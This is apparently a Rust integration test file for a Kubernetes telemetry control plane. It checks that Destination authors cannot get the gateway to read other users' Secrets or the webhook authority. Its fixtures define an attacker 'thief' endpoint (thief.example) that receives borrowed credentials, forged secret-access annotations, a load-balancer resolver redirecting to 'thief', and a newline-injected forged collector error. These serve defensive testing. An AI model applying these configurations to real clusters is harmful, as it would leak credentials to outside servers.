//! Who may create and change Destinations, and reads no Secret: C5 of the review, in which a Destination sent the authority of the webhook and
//! the passwords of others to its author's server.

use crate::plane::{PASSWORD, Plane};
use kube::api::{Api, Patch, PatchParams};
use kube::{Client, ResourceExt};
use odigos_api::destination::Destination;
use odigos_api::{API_VERSION, CollectorRole, names};
use odigos_testkit::collector::{expanded, validate};
use odigos_testkit::control_plane::{NAMESPACE, apply, get_object};
use serde_json::{Value, json};

/// Condition of Destinations.
const CONFIGURED: &str = "DestinationConfigured";

fn destination(name: &str, type_id: &str, data: &Value, secret: Option<&str>) -> Value {
    let mut object = json!({
        "apiVersion": API_VERSION, "kind": "Destination", "metadata": {"name": name, "namespace": NAMESPACE},
        "spec": {"type": type_id, "destinationName": name, "data": data, "signals": ["TRACES"]},
    });
    if let Some(secret) = secret {
        object["spec"]["secretRef"] = json!({"name": secret});
    }
    object
}

/// A server of the attacker's, which gets a password by basic authentication.
fn thief(name: &str, secret: &str) -> Value {
    let data = json!({"OTLP_HTTP_ENDPOINT": "http://thief.example:4318", "OTLP_HTTP_BASIC_AUTH_USERNAME": "u"});
    destination(name, "otlphttp", &data, Some(secret))
}

pub(crate) async fn author(plane: &Plane) -> Client {
    plane.persona("o-destination", "destinations", &["get", "create", "patch", "update", "delete"]).await
}

async fn recorded(plane: &Plane, name: &str) -> Option<String> {
    let api: Api<Destination> = Api::namespaced(plane.client.clone(), NAMESPACE);
    api.get(name).await.unwrap().annotations().get("odigos.io/secret-access").cloned()
}

/// Every Secret that the gateway's pods get keys of.
async fn secrets_of_gateway(plane: &Plane) -> String {
    let found = get_object(&plane.client, "apps/v1", "Deployment", NAMESPACE, names::GATEWAY).await.unwrap();
    found.data.pointer("/spec/template/spec").unwrap().to_string()
}

/// Neither the control plane's own Secrets nor those of others, whatever the author writes into the annotation.
pub(crate) async fn secrets_of_others_are_not_read(plane: &Plane, author: &Client) {
    for (name, secret) in [("authority", "odigos-webhook-authority"), ("vault", "payments-vault")] {
        let mut object = thief(name, secret);
        object["metadata"]["annotations"] = json!({"odigos.io/secret-access": format!("granted:{secret}")});
        apply(author, &object).await.unwrap();
        assert_eq!(recorded(plane, name).await.as_deref(), Some(format!("denied:{secret}").as_str()));
        plane.comes_to_say("Destination", name, CONFIGURED, "False/SecretNotAllowed").await;
        // Not by a change of metadata either.
        let api: Api<Destination> = Api::namespaced(author.clone(), NAMESPACE);
        let forged = json!({"metadata": {"annotations": {"odigos.io/secret-access": format!("granted:{secret}")}}});
        api.patch(name, &PatchParams::default(), &Patch::Merge(&forged)).await.unwrap();
        assert_eq!(recorded(plane, name).await.as_deref(), Some(format!("denied:{secret}").as_str()));
    }
    assert!(!secrets_of_gateway(plane).await.contains("odigos-webhook-authority"));
}

/// The mark of a Secret names who may read it; an administrator's Destination may read what he may.
pub(crate) async fn marked_secret_is_read(plane: &Plane, author: &Client) {
    apply(author, &thief("marked", "own")).await.unwrap();
    let secret = |annotations: &Value| {
        json!({
            "apiVersion": "v1", "kind": "Secret", "stringData": {"OTLP_HTTP_BASIC_AUTH_PASSWORD": "x${env:HOME}$$y"},
            "metadata": {"name": "own", "namespace": NAMESPACE, "labels": {"odigos.io/destination-secret": "true"}, "annotations": annotations},
        })
    };
    apply(&plane.client, &secret(&json!({"odigos.io/destinations": "another"}))).await.unwrap();
    plane.comes_to_say("Destination", "marked", CONFIGURED, "False/SecretNotAllowed").await;
    apply(&plane.client, &secret(&json!({"odigos.io/destinations": "another,marked"}))).await.unwrap();
    plane.comes_to_say("Destination", "marked", CONFIGURED, "True/TransformedToOtelcolConfig").await;
    assert_eq!(recorded(plane, "payments-vault").await.as_deref(), Some("granted:payments-vault"));
    plane.comes_to_say("Destination", "payments-vault", CONFIGURED, "True/TransformedToOtelcolConfig").await;
}

/// Who may not read the Secret cannot lead it to another server by changing the Destination of who may.
pub(crate) async fn destination_of_another_cannot_be_led_elsewhere(plane: &Plane, author: &Client) {
    let own = thief("audit", "payments-vault");
    apply(&plane.client, &own).await.unwrap();
    plane.comes_to_say("Destination", "audit", CONFIGURED, "True/TransformedToOtelcolConfig").await;
    let api: Api<Destination> = Api::namespaced(author.clone(), NAMESPACE);
    let change = json!({"spec": {"data": {"OTLP_HTTP_ENDPOINT": "http://elsewhere.example:4318"}}});
    api.patch("audit", &PatchParams::default(), &Patch::Merge(&change)).await.unwrap();
    plane.comes_to_say("Destination", "audit", CONFIGURED, "False/SecretNotAllowed").await;
    api.delete("audit", &Default::default()).await.unwrap();
}

/// A credential among the settings is rejected; types that reach further need the configuration.
pub(crate) async fn settings_and_types_are_limited(plane: &Plane, author: &Client) {
    let data = json!({"HONEYCOMB_ENDPOINT": "api.honeycomb.io", "HONEYCOMB_API_KEY": "in-plain-text"});
    let rejected = apply(author, &destination("plain", "honeycomb", &data, None)).await.unwrap_err();
    assert!(format!("{rejected:#}").contains("spec.data.HONEYCOMB_API_KEY"), "{rejected:#}");
    let headers = r#"[{"key": "X-Api-Key", "value": "hunter2"}]"#;
    for (setting, data) in [
        ("OTLP_HTTP_ENDPOINT", json!({"OTLP_HTTP_ENDPOINT": "http://me:hunter2@h:4318"})),
        ("OTLP_HTTP_HEADERS", json!({"OTLP_HTTP_ENDPOINT": "http://h:4318", "OTLP_HTTP_HEADERS": headers})),
    ] {
        let rejected = apply(author, &destination("plain", "otlphttp", &data, None)).await.unwrap_err();
        let rejected = format!("{rejected:#}");
        assert!(rejected.contains(&format!("spec.data.{setting}")) && !rejected.contains("hunter2"), "{rejected}");
    }
    let nested = "{protocol: {otlp: {auth: {authenticator: basicauth/otlphttp-payments-vault}, tls: {insecure: true}}}, resolver: {static: {hostnames: ['thief:4317']}}}";
    let data = json!({"DYNAMIC_DESTINATION_TYPE": "load_balancing", "DYNAMIC_CONFIGURATION_DATA": nested});
    apply(author, &destination("nested", "dynamic", &data, None)).await.unwrap();
    let file = destination("queues", "file", &json!({"FILE_PATH": "/var/odigos/queues/x"}), None);
    apply(author, &file).await.unwrap();
    for name in ["nested", "queues"] {
        let message = plane.comes_to_say("Destination", name, CONFIGURED, "False/TypeNotAllowed").await;
        assert!(message.contains("destinations.additionalTypes"), "{message}");
    }
    plane.configure("destinations: {additionalTypes: [dynamic, file]}").await;
    let message = plane.comes_to_say("Destination", "nested", CONFIGURED, "False/ErrConfigDestination").await;
    assert!(message.contains("authenticator names basicauth/otlphttp-payments-vault"), "{message}");
    let message = plane.comes_to_say("Destination", "queues", CONFIGURED, "False/ErrConfigDestination").await;
    assert!(message.contains("inside a directory of the product"), "{message}");
}

/// H2: what an attacker's settings make a collector write quarantines nobody but the attacker.
pub(crate) async fn forged_message_quarantines_its_author(plane: &Plane, author: &Client) {
    const VICTIM: &str = "otlp_http/generic-payments-vault";
    let forged = format!(r#"x\nError: cannot start pipelines: failed to start \"{VICTIM}\" exporter"#);
    let settings = format!(r#"{{endpoint: 'http://h:4318', tls: {{min_version: "{forged}"}}}}"#);
    let data = json!({"DYNAMIC_DESTINATION_TYPE": "otlp_http", "DYNAMIC_CONFIGURATION_DATA": settings});
    apply(author, &destination("evil", "dynamic", &data, None)).await.unwrap();
    let text = plane.configuration(names::GATEWAY, "otlp_http/evil").await;
    let directory = tempfile::tempdir().unwrap();
    let message = validate(CollectorRole::ClusterGateway, &text, directory.path()).unwrap_err().to_string();
    assert!(message.contains(VICTIM), "the real collector repeats it: {message}");
    plane.gateways_fail("otlp_http/evil", &message).await;
    plane.comes_to_say("Destination", "evil", CONFIGURED, "False/ExporterStartFailed").await;
    for name in ["payments-vault", "marked"] {
        assert_eq!(plane.condition("Destination", name, CONFIGURED).await.0, "True/TransformedToOtelcolConfig");
    }
    let api: Api<Destination> = Api::namespaced(author.clone(), NAMESPACE);
    api.delete("evil", &Default::default()).await.unwrap();
}

/// A value that looks like a reference is sent as it is written.
pub(crate) async fn values_of_secrets_are_text(plane: &Plane) {
    let text = plane.configuration(names::GATEWAY, "basicauth/otlphttp-marked").await;
    let pod = secrets_of_gateway(plane).await;
    assert!(pod.contains(names::ESCAPED_SECRETS), "the value comes from its escaped copy");
    let copy = get_object(&plane.client, "v1", "Secret", NAMESPACE, names::ESCAPED_SECRETS).await.unwrap();
    let encoded = copy.data["data"].as_object().unwrap().values().next().unwrap().as_str().unwrap().to_owned();
    let decoded = base64::Engine::decode(&base64::engine::general_purpose::STANDARD, encoded).unwrap();
    let value = String::from_utf8(decoded).unwrap();
    let variables: Vec<(String, String)> = text
        .split("${env:")
        .filter_map(|rest| rest.strip_prefix("D_")?.split('}').next())
        .map(|name| {
            let value = if name.contains("MARKED") { value.clone() } else { PASSWORD.to_owned() };
            (format!("D_{name}"), value)
        })
        .collect();
    let directory = tempfile::tempdir().unwrap();
    let read = expanded(&text, directory.path(), &variables).unwrap();
    assert!(read.contains("x${env:HOME}$$y"), "{read}");
}

/// Nothing about Destinations is admitted while nobody can record who wrote them.
pub(crate) async fn nothing_is_admitted_unseen(author: &Client) {
    let rejected = apply(author, &thief("unseen", "payments-vault")).await.unwrap_err();
    assert!(format!("{rejected:#}").contains("default-destinations.odigos.io"), "{rejected:#}");
}
